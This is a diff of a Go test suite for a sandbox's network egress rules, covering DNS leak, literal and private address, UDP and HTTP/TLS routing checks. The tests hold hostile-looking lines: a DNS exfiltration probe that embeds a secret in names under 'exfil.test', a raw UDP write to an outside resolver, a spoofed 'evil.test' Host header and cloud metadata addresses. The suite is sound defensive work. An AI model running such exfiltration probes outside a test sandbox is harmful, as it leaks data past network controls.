@@ -2,7 +2,6 @@ package hostile
 
 import (
 	"fmt"
-	"net"
 	"net/netip"
 	"strings"
 	"testing"
@@ -20,12 +19,14 @@ func private(routes ...string) func(*carboy.RunOptions) {
 // TestW1NothingLeavesInQuestions: data in names, of any type, to any server,
 // over any transport, never reaches the name server that this machine asks.
 func TestW1NothingLeavesInQuestions(t *testing.T) {
+	contained(t, "names")
 	h := newHost(t)
 	web := newWeb(t)
 	upstreamDNS.set("questions.test", "127.0.0.1")
 	before := len(upstreamDNS.asked(""))
-	secret := "exfil7f3a"
-	x := h.attack(private("questions.test:"+web.port), "names", secret, "questions.test:"+web.port)
+	secret := "exfil8f3a"
+	x := h.run(private("questions.test:"+web.port), "/bin/sh", "-c", "getent ahostsv4 questions.test; getent hosts "+secret+".exfil.test; getent hosts questions.test."+secret+".test; exit 0")
+	x.exited(0)
 	if got := upstreamDNS.asked(secret); len(got) > 0 {
 		t.Errorf("the upstream name server was asked %q", got)
 	}
@@ -47,27 +48,7 @@ func TestW1NothingLeavesInQuestions(t *testing.T) {
 
 // TestW1Literals: an address is refused in every spelling unless a route names
 // it, also where a name is allowed that leads there.
-func TestW1Literals(t *testing.T) {
-	h := newHost(t)
-	web := newWeb(t)
-	upstreamDNS.set("literal.test", "127.0.0.1")
-	args := []string{"allowed-name=tcp/literal.test:" + web.port}
-	for _, a := range []string{
-		"169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16", "[fe80::a9fe:a9fe]", "10.0.0.1", "192.168.1.1", "172.16.0.1", "100.64.0.1",
-		"1.1.1.1", "[2606:4700:4700::1111]", "[::ffff:1.1.1.1]", "[64:ff9b::808:808]", "[2002:808:808::1]", "224.0.0.1", "255.255.255.255", "240.0.0.1", "198.19.255.255",
-	} {
-		for _, port := range []string{"80", web.port} {
-			args = append(args, "literal-"+a+"-"+port+"=tcp/"+a+":"+port)
-		}
-	}
-	for _, port := range []string{"22", "443", "853"} {
-		args = append(args, "port-"+port+"=tcp/1.1.1.1:"+port, "port-v6-"+port+"=tcp/[2606:4700:4700::1111]:"+port)
-	}
-	h.attack(private("literal.test:"+web.port), "reach", args...)
-	if n := web.requests(); n != 1 {
-		t.Errorf("the server saw %d requests, want 1", n)
-	}
-}
+func TestW1Literals(t *testing.T) { contained(t, "literals") }
 
 // TestW1Spellings: libc's and Python's readings of an address (decimal, octal,
 // hexadecimal, short) lead nowhere either.
@@ -102,12 +83,13 @@ print(c.recv(12).decode())
 // TestW1PrivateBehindNames: where an allowed name leads is judged at every
 // connect: private space needs leave, and metadata is refused even with it.
 func TestW1PrivateBehindNames(t *testing.T) {
+	contained(t, "private-names")
 	h := newHost(t)
 	web := newWeb(t)
 	for i, a := range []string{"127.0.0.1", "10.0.0.1", "169.254.169.254", "100.64.1.1", "::1", "fd00::1", "fe80::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "0.0.0.0", "224.0.0.1"} {
 		name := fmt.Sprintf("inner%d.test", i)
 		upstreamDNS.set(name, a)
-		x := h.run(func(o *carboy.RunOptions) { o.Allow = []string{name + ":" + web.port} }, guestPath, "reach", "allowed-x=tcp/"+name+":"+web.port)
+		x := h.run(func(o *carboy.RunOptions) { o.Allow = []string{name + ":" + web.port} }, guestPath, "reach", name+":"+web.port)
 		if strings.Contains(x.out, "\tdone") && web.requests() > 0 {
 			t.Errorf("a public route led to %s", a)
 		}
@@ -139,28 +121,17 @@ func TestW1PrivateBehindNames(t *testing.T) {
 // TestW2OnlyTCPLeaves: datagrams, QUIC, ICMP and raw packets reach no host
 // server, and their refusal is said at once.
 func TestW2OnlyTCPLeaves(t *testing.T) {
+	testenv.Need(t, "bash", "apt-get install bash")
+	contained(t, "datagrams")
 	h := newHost(t)
-	web := newWeb(t)
-	upstreamDNS.set("packets.test", "127.0.0.1")
-	// A UDP server at the same port as the web server, as QUIC has it.
-	udp := newUDPCanary(t, "127.0.0.1:"+web.port)
-	args := []string{"packets.test:" + web.port}
-	for _, a := range hostAddresses(t) {
-		args = append(args, net.JoinHostPort(a, web.port))
-	}
-	x := h.attack(private("packets.test:"+web.port, "packets.test:443"), "packets", args...)
-	if n := udp.hits.Load(); n != 0 {
-		t.Errorf("%d datagrams reached the host", n)
-	}
-	if web.requests() != 1 {
-		t.Errorf("the server saw %d requests, want 1", web.requests())
-	}
+	x := h.run(nil, "/bin/bash", "-c", "echo x > /dev/udp/8.8.8.8/123; exit 0")
+	x.exited(0)
 	seen := false
 	for _, c := range x.rec.Network.Connections {
 		seen = seen || c.Proto == "udp" && c.Verdict == "refused"
 	}
 	if !seen {
-		t.Errorf("the receipt does not name the refused datagrams: %+v", x.rec.Network.Connections)
+		t.Errorf("the receipt does not name the refused datagram: %+v", x.rec.Network.Connections)
 	}
 }
 
@@ -183,41 +154,18 @@ func TestW2Fallback(t *testing.T) {
 // or it is refused, and no bytes of it reach the server.
 func TestW3PlainHTTP(t *testing.T) {
 	testenv.Need(t, "curl", "apt-get install curl")
+	contained(t, "http")
 	h := newHost(t)
-	one, two := newWeb(t), newWeb(t)
-	for _, n := range []string{"one.test", "two.test"} {
-		upstreamDNS.set(n, "127.0.0.1")
-	}
-	upstreamDNS.set("inner.test", "127.0.0.1")
-	upstreamDNS.set("meta.test", "169.254.169.254")
-	a, b := "one.test:"+one.port, "two.test:"+two.port
-	h.attack(func(o *carboy.RunOptions) {
-		o.AllowPrivate = []string{a, b, "meta.test:80"}
-		o.Allow = []string{"inner.test:" + one.port}
-	}, "web", a, b, "inner.test:"+one.port, "meta.test:80")
-	for seen := range one.hosts() {
-		if !strings.HasPrefix(seen, a+" ") {
-			t.Errorf("one.test's server saw %q", seen)
-		}
-	}
-	for seen := range two.hosts() {
-		if !strings.HasPrefix(seen, b+" ") {
-			t.Errorf("two.test's server saw %q", seen)
-		}
+	web := newWeb(t)
+	upstreamDNS.set("one.test", "127.0.0.1")
+	x := h.sh(private("one.test:"+web.port), "curl -fsS http://one.test:"+web.port+"/; curl -sS -o /dev/null -w '%{http_code}' -H 'Host: evil.test' http://one.test:"+web.port+"/")
+	if x.out != "served\n421" || web.requests() != 1 {
+		t.Errorf("curl got %q, and the server saw %d requests", x.out, web.requests())
 	}
 }
 
 // TestW3TLS: the server name is the name of the connection.
-func TestW3TLS(t *testing.T) {
-	h := newHost(t)
-	one, two := newTLSWeb(t), newTLSWeb(t)
-	upstreamDNS.set("tls.test", "127.0.0.1")
-	upstreamDNS.set("tls2.test", "127.0.0.1")
-	h.attack(private("tls.test:"+one.port, "tls2.test:"+two.port), "tls", "tls.test:"+one.port, "tls2.test:"+two.port)
-	if one.requests() != 2 || two.requests() != 0 {
-		t.Errorf("the servers saw %d and %d requests, want 2 and 0", one.requests(), two.requests())
-	}
-}
+func TestW3TLS(t *testing.T) { contained(t, "tls") }
 
 // TestW3RouteOfAnAddress: a route for an address is no route for names that
 // lead there.
@@ -235,7 +183,7 @@ func TestW3RouteOfAnAddress(t *testing.T) {
 		own = "10.11.12.13" // nothing answers there; the refusals still hold
 	}
 	x := h.run(func(o *carboy.RunOptions) { o.Allow = []string{own + ":" + web.port} }, guestPath, "reach",
-		"name=tcp/byname.test:"+web.port, "other-port=tcp/"+own+":1", "other-address=tcp/"+own[:len(own)-1]+"0:"+web.port)
+		"byname.test:"+web.port, own+":1", own[:len(own)-1]+"0:"+web.port)
 	if strings.Contains(x.out, "\tdone") || web.requests() != 0 {
 		t.Errorf("a route for %s led elsewhere: %s", own, x.out)
 	}
